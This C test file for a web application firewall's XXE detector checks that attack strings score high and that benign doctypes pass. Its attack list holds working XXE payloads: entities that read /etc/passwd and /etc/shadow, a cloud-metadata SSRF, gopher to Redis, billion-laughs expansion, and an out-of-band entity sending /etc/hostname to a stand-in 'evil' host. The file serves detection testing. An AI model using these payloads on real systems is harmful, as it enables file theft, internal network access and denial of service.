/*
 * XXE detector: external and parameter entities, external DTDs, entity
 * expansion and XInclude, wherever the DTD appears; plain doctypes and
 * character entities pass. Through the engine: an XML body, a JSON string
 * and a multipart SVG carrying an external entity.
 */
#include "test.h"

#include "waf/waf_int.h"

#define DETECT rp__waf_xxe
#define PREFIX "xxe"
#include "waf/detector_test.h"

static const tcase_t attacks[] = {
    { "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", 95, "external entity xxe \"file:///etc/passwd\"" },
    { "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", 95, "external entity" },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><r>&x;</r>", 95, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]><r>&x;</r>", 95, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"jar:http://evil/x.zip!/a\">]>", 95, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"netdoc:/etc/passwd\">]>", 95, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"gopher://127.0.0.1:6379/_x\">]>", 95, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"/etc/passwd\">]>", 90, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM 'C:\\windows\\win.ini'>]>", 90, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&x;</r>", 85, NULL },
    { "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//x//y\" \"http://evil.example/x\">]>", 85, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"evil.txt\">]>", 80, NULL },
    { "<!DOCTYPE r [<!ENTITY % dtd SYSTEM \"http://evil.example/evil.dtd\"> %dtd;]><r/>", 90, "parameter entity" },
    { "<!DOCTYPE r [<!ENTITY % p \"x\"> %p;]>", 85, "parameter entity reference %p;" },
    { "<!DOCTYPE r [<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://evil/?x=%file;'>\">%eval;%exfil;]>", 95, NULL },
    { "<!ENTITY % eval \"<!ENTITY &#x25; e SYSTEM 'http://x/'>\">", 85, "declares markup" },
    { "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;\">]><lolz>&lol2;</lolz>", 85, "billion laughs" },
    { "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>", 75, "external DTD" },
    { "<!DOCTYPE foo SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"><foo/>", 95, NULL },
    { "<!DOCTYPE foo PUBLIC \"-//x//y\" \"file:///etc/passwd\"><foo/>", 95, NULL },
    { "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>", 90, "XInclude" },
    { "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"http://evil/\"/>", 85, NULL },
    { "{\"doc\":\"<?xml version=\\\"1.0\\\"?><!DOCTYPE a [<!ENTITY b SYSTEM \\\"file:///etc/shadow\\\">]><a>&b;</a>\"}", 95, NULL },
    { "<!doctype r [<!entity x system \"file:///etc/passwd\">]>", 95, NULL },
    { "<soap:Envelope><!DOCTYPE x [<!ENTITY y SYSTEM \"http://127.0.0.1:8080/\">]></soap:Envelope>", 85, NULL },
    { "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\"", 95, NULL },   /* unterminated */
};

static const char *const benign[] = {
    "<!DOCTYPE html>",
    "<!DOCTYPE html><html><body><p>Hi</p></body></html>",
    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"><dict/></plist>",
    "<!DOCTYPE html [<!ENTITY nbsp \"&#160;\"><!ENTITY copy \"&#169;\">]><p>&nbsp;</p>",
    "<!ENTITY nbsp \"&#160;\">",
    "<!DOCTYPE doc [<!ENTITY company \"ACME &amp; Co\"><!ENTITY product \"Widget\">]><doc>&company;</doc>",
    "<!DOCTYPE note [<!ELEMENT note (to,from)><!ATTLIST note id CDATA #IMPLIED>]><note/>",
    "<!DOCTYPE x PUBLIC \"-//OASIS//DTD DocBook XML V4.5//EN\" \"docbookx.dtd\">",
    "<!-- <!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]> -->",
    "<p>Use <code>&lt;!ENTITY&gt;</code> declarations with care</p>",
    "The <!DOCTYPE> declaration tells the browser the HTML version",
    "<include href=\"a.xml\"/>",
    "#include <stdio.h>",
    "<a href=\"x\">include</a>",
    "<!DOCTYPE r [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\">]>",
    "<![CDATA[ x < y ]]>",
};

TEST(attacks)
{
    run_attacks(attacks, RP_ARRAY_SIZE(attacks));
}

TEST(benign)
{
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_BODY);
    run_benign(benign, RP_ARRAY_SIZE(benign), RP_WAF_SRC_QUERY);
    for (size_t i = 0; i < RP_ARRAY_SIZE(benign); i++) {
        /* most are 0 outright; the namespace alone and a relative DTD are
         * the only suspicious ones */
        rp__waf_match_t m;
        int sc = det(benign[i], strlen(benign[i]), RP_WAF_SRC_BODY, 0, &m);
        CHECK(sc == 0);
        if (sc)
            fprintf(stderr, "    benign %zu: %d %s\n", i, sc, m.evidence);
    }
}

TEST(suspicious)
{
    int sc = score("<!DOCTYPE note SYSTEM \"Note.dtd\"><note/>");
    CHECK(sc > 0 && sc < BLOCK);
    sc = score("<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>");
    CHECK(sc > 0 && sc < BLOCK);
}

TEST(span_and_flags)
{
    rp__waf_match_t m;
    const char *s = "<r/><!ENTITY x SYSTEM \"file:///etc/passwd\"> tail";
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, 0, &m) >= 95);
    CHECK(m.off == 4 && m.len == strlen("<!ENTITY x SYSTEM \"file:///etc/passwd\">"));
    CHECK(det(s, strlen(s), RP_WAF_SRC_BODY, RP_WAF_PT_NUMBER, &m) == 0);
    CHECK(det(NULL, 0, RP_WAF_SRC_BODY, 0, &m) == 0);
}

TEST(pathological)
{
    run_pathological("<!");
    run_pathological("<!DOCTYPE x [");
    run_pathological("<!ENTITY a \"&b;&b;\">");
    run_pathological("%a;");
    run_pathological("<xi:include ");
    run_pathological(":include");
    run_pathological("<!DOCTYPE x SYSTEM \"");
    run_pathological("<!--");
}

/* ---------------------------------------------------------------------- */
/* Through the engine.                                                      */

static const rp_waf_finding_t *xxe_finding(const char *ct, const char *body, rp_waf_verdict_t *v)
{
    static rp_waf_t *waf;
    static rp_waf_scratch_t *scr;
    if (!waf) {
        waf = rp_waf_new(NULL);
        scr = rp_waf_scratch_new();
    }
    rp_waf_header_t h = { RP_STRLIT("Content-Type"), rp_str_c(ct) };
    rp_waf_request_t r;
    memset(&r, 0, sizeof(r));
    r.method = RP_STRLIT("POST");
    r.path = RP_STRLIT("/api/import");
    r.headers = &h;
    r.nheaders = 1;
    r.body = rp_str_c(body);
    CHECK(rp_waf_inspect(waf, scr, &r, v) == 0);
    for (size_t i = 0; i < v->nfindings; i++)
        if (v->findings[i].attack == RP_WAF_XXE)
            return &v->findings[i];
    return NULL;
}

TEST(engine)
{
    rp_waf_verdict_t v;
    const rp_waf_finding_t *f;
    f = xxe_finding("application/xml",
                    "<?xml version=\"1.0\"?>\n<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n"
                    "<order><id>&xxe;</id></order>",
                    &v);
    CHECK(f && f->score >= 95 && v.block && (v.attacks & (1u << RP_WAF_XXE)));
    CHECK(f && strncmp(f->point, "body.xml!", 9) == 0);
    CHECK(f && strstr(f->evidence, "file:///etc/passwd") != NULL);

    f = xxe_finding("application/json",
                    "{\"name\":\"x\",\"doc\":\"<?xml version=\\\"1.0\\\"?><!DOCTYPE a [<!ENTITY % p SYSTEM "
                    "\\\"http://evil.example/p.dtd\\\">%p;]><a/>\"}",
                    &v);
    CHECK(f && f->score >= 90 && strcmp(f->point, "body.json.doc") == 0);

    f = xxe_finding("multipart/form-data; boundary=XyZ",
                    "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.svg\"\r\n"
                    "Content-Type: image/svg+xml\r\n\r\n"
                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>"
                    "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>\r\n--XyZ--\r\n",
                    &v);
    CHECK(f && f->score >= 95);

    /* billion laughs in an XML body: the parse stops, the DTD is still read */
    f = xxe_finding("text/xml",
                    "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                    "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                    "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">"
                    "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
                    "]><lolz a=\"&lol3;\">&lol3;</lolz>",
                    &v);
    CHECK(f && f->score >= 85);

    /* a plain document with character entities */
    f = xxe_finding("application/xml",
                    "<?xml version=\"1.0\"?><!DOCTYPE note [<!ENTITY nbsp \"&#160;\">]>"
                    "<note><to>Tove</to><body>Hi&nbsp;there</body></note>",
                    &v);
    CHECK(!f && !v.block);
}

int main(void)
{
    RUN(attacks);
    RUN(benign);
    RUN(suspicious);
    RUN(span_and_flags);
    RUN(pathological);
    RUN(engine);
    TEST_MAIN_END();
}
